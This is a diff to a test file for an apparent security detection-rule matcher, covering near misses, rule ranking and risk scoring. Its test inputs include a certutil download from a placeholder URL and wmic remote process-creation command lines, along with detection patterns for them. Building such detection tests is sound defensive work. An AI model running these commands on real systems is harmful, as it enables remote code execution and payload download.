@@ -92,7 +92,10 @@ describe("matchEvent on a built command line", () => {
     expect(f?.summary).toContain('Processes.process=*/node:* ← "wmic /node:10.0.0.5')
   })
   it("adds per-entity risk and totals against the threshold", () => {
-    expect(report.fired[0]?.risk).toEqual([{ field: "dest", type: "system", value: "ws-042", score: 56 }, { field: "user", type: "user", value: "bob", score: 48 }])
+    expect(report.fired[0]?.risk).toEqual([
+      { field: "dest", type: "system", value: "ws-042", score: 56, basis: "dest risk object score 56" },
+      { field: "user", type: "user", value: "bob", score: 48, basis: "user risk object score 48" },
+    ])
     expect(report.risk.totals.map((t) => [t.field, t.value, t.score, t.exceeds])).toEqual([["dest", "ws-042", 56, false], ["user", "bob", 48, false]])
   })
   it("does not count the local call and lists it as a near miss on the exclusion", () => {
@@ -103,9 +106,12 @@ describe("matchEvent on a built command line", () => {
 })
 
 describe("near misses, undecided rules, ranking and totals", () => {
-  it("a near miss is one flip away; either branch of an OR counts; unanchored rules are not near", () => {
-    const r = matchEvent(catalog, { built: buildProcessEvents({ cmd: "notwmic /node:x process call create y" }) })
-    expect(r.nearMisses.map((n) => [n.name, n.failed.map((l) => l.test)])).toEqual([["WMI Remote", ["Processes.process_name=wmic.exe", "Processes.original_file_name=wmic.exe"]]])
+  it("a near miss is one flip away, ranked by the share of positive conditions held; unanchored rules are not near", () => {
+    const r = matchEvent(catalog, { built: buildProcessEvents({ cmd: "wmic process call create y" }) })
+    // The OR of process_name and original_file_name counts once; the exclusion under NOT not at all.
+    expect(r.nearMisses.map((n) => [n.name, n.failed.map((l) => l.test), n.closeness])).toEqual([["WMI Remote", ["Processes.process=*/node:*"], { held: 2, total: 3 }]])
+    // Only the process identity fails (either branch of the OR would do): the rule is about wmic, not near.
+    expect(matchEvent(catalog, { built: buildProcessEvents({ cmd: "notwmic /node:x process call create y" }) }).nearMisses).toEqual([])
     // Two failed conditions: not near.
     const far = matchEvent(catalog, { built: buildProcessEvents({ cmd: "notwmic /node:x" }) })
     expect(far.nearMisses).toEqual([])
@@ -123,19 +129,17 @@ describe("near misses, undecided rules, ranking and totals", () => {
   it("ranks TTP, Anomaly, Hunting, then risk, then name; legacy scores apply per entity", () => {
     const r = matchEvent(catalog, { built: buildProcessEvents({ cmd: "certutil -urlcache -f http://x/a a", user: "bob", host: "ws-042" }) })
     expect(r.fired.map((f) => [f.name, f.shape])).toEqual([["Certutil Raw", "sysmon"], ["Certutil 4688", "security4688"]])
-    expect(r.fired[0]?.risk).toEqual([{ field: "dest", type: "system", value: "ws-042", score: 30 }])
+    expect(r.fired[0]?.risk).toEqual([{ field: "dest", type: "system", value: "ws-042", score: 30, basis: "impact 50 × confidence 60 / 100 = 30" }])
     const totals = riskTotals(
       [
-        { name: "a", risk: [{ field: "dest", type: "system", value: "WS-042", score: 60 }] },
-        { name: "b", risk: [{ field: "dest", type: "system", value: "ws-042", score: 45 }, { field: "user", type: "user", score: 5 }] },
+        { name: "a", risk: [{ field: "dest", value: "WS-042", score: 60 }] },
+        { name: "b", risk: [{ field: "dest", value: "ws-042", score: 45 }, { field: "user", score: 5 }] },
       ],
       100,
     )
-    expect(totals).toEqual([
-      { field: "dest", value: "WS-042", score: 105, rules: ["a", "b"], exceeds: true },
-      { field: "user", value: "(unknown)", score: 5, rules: ["b"], exceeds: false },
-    ])
-    expect(riskTotals([{ name: "a", risk: [{ field: "dest", type: "system", value: "h", score: 100 }] }])[0]?.exceeds).toBe(false)
+    // The user the event does not name is no entity: its 5 stays with rule b.
+    expect(totals).toEqual([{ field: "dest", value: "WS-042", score: 105, rules: ["a", "b"], exceeds: true }])
+    expect(riskTotals([{ name: "a", risk: [{ field: "dest", value: "h", score: 100 }] }])[0]?.exceeds).toBe(false)
   })
   it("evaluates a pasted event against every rule", () => {
     const r = matchEvent(catalog, { event: { EventCode: "1", Image: "C:\\Windows\\System32\\certutil.exe", CommandLine: "certutil -urlcache x", source: "XmlWinEventLog:Microsoft-Windows-Sysmon/Operational" } })
